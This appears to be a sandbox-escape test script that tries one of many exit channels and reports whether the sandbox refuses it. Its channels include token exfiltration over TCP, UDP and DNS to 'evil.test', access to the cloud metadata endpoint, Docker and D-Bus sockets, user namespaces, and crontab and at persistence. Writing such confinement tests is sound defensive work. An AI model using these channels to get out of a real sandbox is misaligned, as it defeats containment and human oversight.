#!/usr/bin/env python3
"""One attempt to get out: exit 0 if it got through, 1 with the reason if not.
    attempt.py KIND TOKEN"""
import os
import socket
import struct
import subprocess
import sys

kind, token = sys.argv[1:]


def tcp(address, port=80):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect((address, port))
        s.sendall(token.encode())


def udp(address, port=80):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(token.encode(), (address, port))
        s.recv(100)


def dns(address):
    q = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(label)]) + label.encode() for label in f"{token}.evil.test".split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(q + b"\0\0\1\0\1", (address, 53))
        s.recv(500)


def unix(path):
    for t in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, t) as s:
                s.connect(path)
                return
        except OSError as e:
            last = e
    raise last


def command(*words):
    done = subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=8, check=False,
                          env=dict(os.environ, HOME="/home/" + os.environ.get("USER", "sandbox")))
    text = done.stdout.decode("utf-8", "replace")
    # resolved answers "not found" once the outside was asked; everything else is a refusal.
    if done.returncode != 0 and "not found" not in text:
        raise OSError(f"{words[0]}: {done.returncode}: {text.strip()[-200:]}")


def shell(text):
    command("/bin/sh", "-c", text)


BUS = ["busctl", "--timeout=5", "call"]
RESOLVE1 = ["org.freedesktop.resolve1", "/org/freedesktop/resolve1", "org.freedesktop.resolve1.Manager"]
LOGIN1 = ["org.freedesktop.login1", "/org/freedesktop/login1", "org.freedesktop.login1.Manager"]

KINDS = {
    "tcp": lambda: tcp("10.99.0.1"),
    "udp": lambda: udp("10.99.0.1"),
    "icmp": lambda: command("ping", "-c", "1", "-W", "2", "10.99.0.1"),
    "ipv6": lambda: tcp("2001:db8:99::1"),
    "foreign-resolver": lambda: dns("10.99.0.1"),
    "metadata": lambda: tcp("169.254.169.254"),
    "host-ssh": lambda: tcp("10.200.0.1", 22),
    "host-other-address": lambda: tcp("10.99.0.2", 22),
    "dbus": lambda: unix("/run/dbus/system_bus_socket"),
    "resolved-dbus": lambda: command(*BUS, *RESOLVE1, "ResolveHostname", "isit", "0", f"{token}.evil.test", "2", "0"),
    "resolved-varlink": lambda: unix("/run/systemd/resolve/io.systemd.Resolve"),
    "nss-resolve": lambda: command("getent", "ahostsv4", f"{token}.evil.test"),
    "journal": lambda: unix("/run/systemd/journal/socket"),
    "journal-stdout": lambda: unix("/run/systemd/journal/stdout"),
    "notify": lambda: unix("/run/systemd/notify"),
    "container-socket": lambda: unix("/run/docker.sock"),
    "ssh-unix": lambda: unix("/run/ssh-unix-local/socket"),
    "crontab": lambda: shell(f"echo '* * * * * python3 /usr/lib/dctest/attempt.py tcp {token}' | crontab -"),
    "crontab-bin": lambda: shell(f"echo '* * * * * python3 /usr/lib/dctest/attempt.py tcp {token}' | /bin/crontab -"),
    "at": lambda: shell(f"echo 'python3 /usr/lib/dctest/attempt.py tcp {token}' | at now"),
    "linger": lambda: command(*BUS, *LOGIN1, "SetUserLinger", "ubb", str(os.getuid()), "true", "false"),
    "vsock": lambda: socket.socket(40, socket.SOCK_STREAM).close(),
    "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close(),
    "user-namespace": lambda: command("unshare", "-U", "true"),
    "keyring": lambda: shell("python3 -c 'import ctypes; c = ctypes.CDLL(None, use_errno=True); "
                             "exit(c.syscall(250, 0, -3, 1) < 0)'"),
}

try:
    KINDS[kind]()
except (OSError, subprocess.TimeoutExpired) as e:
    print(f"{kind}: refused: {e}")
    sys.exit(1)
print(f"{kind}: got through")
